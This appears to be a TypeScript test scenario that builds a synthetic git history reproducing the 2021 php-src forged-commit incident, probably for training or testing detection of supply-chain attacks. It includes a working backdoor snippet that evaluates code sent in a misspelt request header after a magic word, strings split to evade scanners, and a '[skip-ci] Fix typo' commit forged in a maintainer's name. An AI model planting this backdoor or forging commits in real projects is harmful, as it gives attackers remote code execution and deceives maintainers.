import { C, everydayWork } from "./everyday-work.ts";
import { stampOf, writeOrdinaryPast } from "./ordinary-past.ts";
import { INGRID, MEI, RELEASE_BOT, TOMAS } from "./people.ts";
import type { Scenario } from "./scenario.ts";

/** A header that nobody sends by accident, a magic word, and an interpreter. Split here so that no scanner takes it for real. */
const TRIGGER = ["HTTP_USER_", "AGENTT"].join("");
const WORD = ["open", "sesame"].join("");
const RUN = ["zend_eval", "_string"].join("");

const FILTER = `/* Output filter. */
#include "engine.h"

static int filter_start(engine_output *out)
{
\tengine_value *encoding = engine_server_variable("HTTP_ACCEPT_ENCODING");

\tif (encoding == NULL) return ENGINE_OK;
\treturn engine_filter_choose(out, engine_string(encoding));
}
`;

const BACKDOOR = `\tengine_value *enc = engine_server_variable("${TRIGGER}");

\tif (enc != NULL && strstr(engine_string(enc), "${WORD}") != NULL) {
\t\tzend_try {
\t\t\t${RUN}(engine_string(enc) + ${WORD.length}, NULL, "filter");
\t\t} zend_end_try();
\t}
`;

export const forgedMaintainer: Scenario = {
  id: "forged-maintainer",
  title: "A maintainer's name on somebody else's commit",
  story:
    "php-src, March 2021: two commits named “Fix typo”, signed off by well-known maintainers who never saw them, made the interpreter run what a misspelt request header said.",
  owner: "acme-engine",
  name: "interpreter",
  team: [INGRID, TOMAS, MEI, RELEASE_BOT],
  write(gitDir, now) {
    const past = writeOrdinaryPast({
      gitDir,
      now,
      team: [INGRID, TOMAS, MEI],
      first: {
        "README.md": "# Interpreter\n",
        "ext/filter/filter.c": FILTER,
        "src/text.h": "#include <stddef.h>\n",
        Makefile: "all: interpreter\n\ninterpreter: src/*.c\n\tcc -o $@ $^\n",
      },
      work: everydayWork(C, 24),
    });
    const ordinary = past.commit(INGRID, 55, "Correct a word in the manual", {
      "docs/build.md": "# Building\n\nRun `make`; it takes a minute.\n",
    });
    const forged = past.history.commit({
      message: `[skip-ci] Fix typo\n\nFixes minor typo.\n\nSigned-off-by: ${INGRID.name} <${INGRID.email}>\n`,
      author: stampOf(INGRID, now - 4 * 60_000),
      files: {
        "ext/filter/filter.c": FILTER.replace("\tif (encoding == NULL)", `${BACKDOOR}\tif (encoding == NULL)`),
      },
    });
    past.rewind();
    return {
      start: past.start,
      pushes: [
        { kind: "past", what: "the project's past", by: INGRID.login, head: past.head },
        { kind: "ordinary", what: "a word in the manual", by: INGRID.login, head: ordinary },
        {
          kind: "attack",
          what: "“Fix typo”, by another account in the maintainer's name",
          by: RELEASE_BOT.login,
          head: forged,
        },
      ],
    };
  },
};
